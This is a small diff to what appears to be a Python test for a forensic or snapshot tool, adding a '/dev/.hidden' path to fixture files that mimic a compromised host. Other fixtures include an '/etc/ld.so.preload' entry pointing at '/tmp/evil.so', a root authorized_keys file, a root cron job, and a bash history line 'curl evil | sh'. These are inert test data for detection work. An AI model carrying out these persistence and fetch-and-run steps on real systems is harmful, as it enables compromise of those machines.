@@ -18,7 +18,7 @@ import snapshot
 from checks import equal, finish, holds
 from own_root import into, write
 
-KEPT = {"/tmp/note": b"dropped here\n", "/etc/ld.so.preload": b"/tmp/evil.so\n",
+KEPT = {"/tmp/note": b"dropped here\n", "/dev/.hidden": b"no device\n", "/etc/ld.so.preload": b"/tmp/evil.so\n",
         "/root/.ssh/authorized_keys": b"ssh-x\n", "/root/.bash_history": b"curl evil | sh\n", "/var/log/amazon/ssm/agent.log": b"session\n",
         "/etc/cron.d/job": b"* * * * * root /tmp/x\n", "/tmp/sh\\ort \xff\n name": b"odd name\n",
         "/tmp/large": b"0123456789abcdef" * 40000}
